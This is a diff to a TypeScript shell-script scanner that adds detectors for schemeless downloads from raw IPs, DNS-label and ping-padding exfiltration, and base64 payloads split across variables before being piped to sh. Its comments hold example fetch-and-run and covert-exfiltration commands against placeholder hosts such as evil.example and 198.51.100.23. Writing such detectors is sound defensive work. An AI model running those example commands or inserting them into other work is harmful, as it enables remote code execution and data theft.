@@ -27,7 +27,15 @@ const ENV_DUMP = /(?:^|[;&|(]\s*)(?:env|printenv|set)\s*(?:\||>)|\bGet-ChildItem
 const BASE64_DECODE = /\bbase64\s+(?:-d|-D|--decode)\b|\bFromBase64String\b|\bb64decode\b|\bopenssl\s+(?:enc\s+-)?base64\s+-d\b/i;
 /** Decoded text handed to something that runs it: `bash <(… | base64 -d)`, `eval "$(… | base64 -d)"`, `sh -c "$(…)"`. */
 const DECODE_RUNNER = /(?:^|[\s;&|(])(?:(?:ba|z|da)?sh\s+(?:-c\s+)?["']?(?:<\(|\$\()|eval\s+["']?\$\(|source\s+<\(|\.\s+<\(|python[23]?\s+-c|perl\s+-e|iex\b|Invoke-Expression\b)/i;
-const DNS_TOOL = /\b(?:nslookup|dig|host|Resolve-DnsName)\s+["']?[\w$({.-]*\$[({]?\w/i;
+const DNS_TOOL = /\b(?:nslookup|dig|host|Resolve-DnsName)\s+(?:[-+][\w=-]+\s+)*["']?[\w$({.-]*\$[({]?\w/i;
+/** A download argument with no scheme: a raw IPv4 (optionally `:port`) or `host.tld:port`, followed by a path or the end of the argument. */
+const SCHEMELESS_ADDRESS = /\b(?:curl|wget|iwr|irm|Invoke-WebRequest|Invoke-RestMethod|DownloadString|DownloadFile|DownloadData|Start-BitsTransfer|aria2c)\b(?=[(\s])[^|\n;]*?(?:^|[\s"'(=])(?<!:\/\/)((?:\d{1,3}\.){3}\d{1,3}|[a-z0-9-]+(?:\.[a-z0-9-]+)*\.[a-z]{2,})(?::(\d{2,5}))?(?=[/"'\s)|;]|$)/gi;
+/** A DNS lookup whose leftmost label is a variable under a fixed domain. */
+const DNS_LABEL_QUERY = /\b(?:nslookup|dig|host|drill|Resolve-DnsName|getent\s+(?:hosts|ahosts))\s+(?:[-+@][\w=.:-]+\s+)*["']?(?:[\w-]*\$[({]?[\w:#%]+[)}]?[\w-]*\.)+(?:[\w-]+\.)*[a-z0-9-]+\.[a-z]{2,}\b/i;
+/** `ping -p <pattern>` with a variable pattern: data in ICMP padding. */
+const PING_PATTERN = /\bping\b[^\n|;]*\s-p\s*["']?\$[({]?\w/i;
+/** Turning data into hex, base32/64 or fixed-size pieces. */
+const CHUNK_ENCODER = /\bxxd\s+-p\b|\bxxd\s+-ps\b|\bbase32\b|\bbase64\b|\bbasenc\b|\bod\s+-[A-Za-z]*\s*[^\n|]*x1|\bhexdump\b|\bfold\s+-(?:b\s*)?w\s*\d|\bsplit\s+-b\b|\bcut\s+-c\b|\$\{\w+:\$?\w+:\d+\}|\bConvertTo-Hex\b|\[Convert\]::ToBase64String/i;
 const URL_RE = /\b(?:https?|ftp):\/\/[^\s"'`<>)|;]+/gi;
 
 export interface ShellAnalysis {
@@ -48,6 +56,14 @@ function untrustedSource(command: string, decoded: boolean): boolean {
     if (/^(https?|ftp):\/\/(\d{1,3}\.){3}\d{1,3}\b/i.test(u) && !/^(https?):\/\/(127\.|10\.|192\.168\.|0\.0\.0\.0)/i.test(u)) return true;
     if (/^http:\/\//i.test(u) && !/^http:\/\/(localhost|127\.0\.0\.1)\b/i.test(u)) return true;
     if (PASTE_HOST.test(u) || EXFIL_HOST.test(u) || SHORTENER.test(u)) return true;
+  }
+  // A schemeless address (`irm 198.51.100.23:8080/x | iex`, `curl 203.0.113.5/x|sh`, `wget evil.example:8443/p`) is
+  // fetched over plain http by every downloader: a raw IP or a host on a non-standard port is no vendor's installer.
+  for (const m of command.matchAll(SCHEMELESS_ADDRESS)) {
+    const host = m[1];
+    if (/^(?:\d{1,3}\.){3}\d{1,3}$/.test(host)) {
+      if (!/^(?:127\.|10\.|192\.168\.|0\.0\.0\.0)/.test(host)) return true;
+    } else if (m[2] && !/^(?:localhost)$/i.test(host) && !/^(?:80|443)$/.test(m[2])) return true;
   }
   // A download whose URL is assembled from variables or hidden entirely is not a vendor's documented installer.
   return urls.length === 0 && /\b(curl|wget|iwr|irm|Invoke-WebRequest|Invoke-RestMethod|DownloadString)\b(\s+-{1,2}[\w-]+)*\s+["'(]?(\$\{?\w|%\w+%)/i.test(command);
@@ -104,6 +120,9 @@ export function analyzeShell(text: string, sink: SignalSink, lineAt: (offset: nu
     if (ENV_DUMP.test(cmd)) sink.add('env.bulk', line, cmd);
     if (BASE64_PIPE_EXEC.test(cmd) || DECODER_PIPE_EXEC.test(cmd) || (BASE64_DECODE.test(cmd) && DECODE_RUNNER.test(cmd))) sink.add('shell.base64-exec', line, cmd);
     if (DNS_TOOL.test(cmd)) sink.add('net.dns', line, cmd);
+    // Data cut into labels of names under a fixed zone (`dig "$chunk.$i.q.zone.tld"`) or into ICMP padding
+    // (`ping -p $hex`), when the script encodes it into hex/base32/chunks: a covert channel past HTTP egress.
+    if ((DNS_LABEL_QUERY.test(cmd) || PING_PATTERN.test(cmd)) && CHUNK_ENCODER.test(text.length < 200000 ? text : cmd)) sink.add('net.covert-exfil', line, cmd);
     if (INLINE_CODE.test(cmd)) {
       sink.add('shell.inline-code', line, cmd);
       // `ruby -e` / `python -c` / `perl -e` / `node -e` that fetches and then runs: a dropper in one line.
@@ -215,6 +234,9 @@ const PRINTF_ESCAPES = /(?:printf|echo\s+-e|echo\s+\$)\s*["'$]*((?:\\x[0-9a-fA-F
 /** `echo DATA | dec | dec …`: the data and the decoder stages after it. */
 const ECHO_PIPELINE = /(?:echo|printf)\s+(?:-[neE]+\s+)*(["']?)([A-Za-z0-9+/=_-]{16,})\1\s*((?:\|\s*(?:base(?:32|64)|basenc|gunzip|zcat|gzip|bzip2|xz|unxz|xxd|rev|openssl|tr)\b[^|\n]*){1,8})/g;
 
+/** `echo "$a$b${c}" | dec …`: data made only of variables, and the decoder stages after it. */
+const ECHO_VARS_PIPELINE = /(?:echo|printf)\s+(?:-[neE]+\s+)*(["']?)((?:\$\{?[A-Za-z_]\w*\}?){1,40})\1\s*((?:\|\s*(?:base(?:32|64)|basenc|gunzip|zcat|gzip|bzip2|xz|unxz|xxd|rev|openssl|tr)\b[^|\n]*){1,8})/g;
+
 /** Apply a pipeline of decoders in order; undefined when a stage is unknown or the result is not text. */
 function runDecoders(data: string, stages: string): { text: string; how: string } | undefined {
   let buf: Buffer = Buffer.from(data, 'utf8');
@@ -281,6 +303,18 @@ function deobfuscate(text: string, sink: SignalSink, lineAt: (offset: number) =>
   for (const m of text.matchAll(ECHO_PIPELINE)) {
     const d = runDecoders(m[2], m[3]);
     if (d) payloads.push({ decoded: d.text, how: d.how, offset: m.index ?? 0 });
+  }
+  // `k1='…'; k2='…'; echo "$k1$k2" | base64 -d | sh`: parts assigned earlier, joined only at the decoder.
+  if (/(?:echo|printf)\s+(?:-[neE]+\s+)*["']?\$/.test(text)) {
+    const vars = new Map<string, string>();
+    for (const a of text.matchAll(ASSIGNMENT)) vars.set(a[1], a[2] ?? a[3] ?? a[4] ?? '');
+    for (const m of text.matchAll(ECHO_VARS_PIPELINE)) {
+      const joined = resolveVars(m[2], vars);
+      if (/\$/.test(joined) || !/^[A-Za-z0-9+/=_-]{16,}$/.test(joined)) continue;
+      const d = runDecoders(joined, m[3]) ?? (/^\|\s*(?:base64|openssl)\b/i.test(m[3].trim()) ? decodeBase64(joined) : undefined);
+      const dt = typeof d === 'string' ? { text: d, how: 'base64' } : d;
+      if (dt) payloads.push({ decoded: dt.text, how: `joined variables → ${dt.how}`, offset: m.index ?? 0 });
+    }
   }
   for (const m of text.matchAll(REV_ECHO)) {
     const body = m[2] ?? m[4];
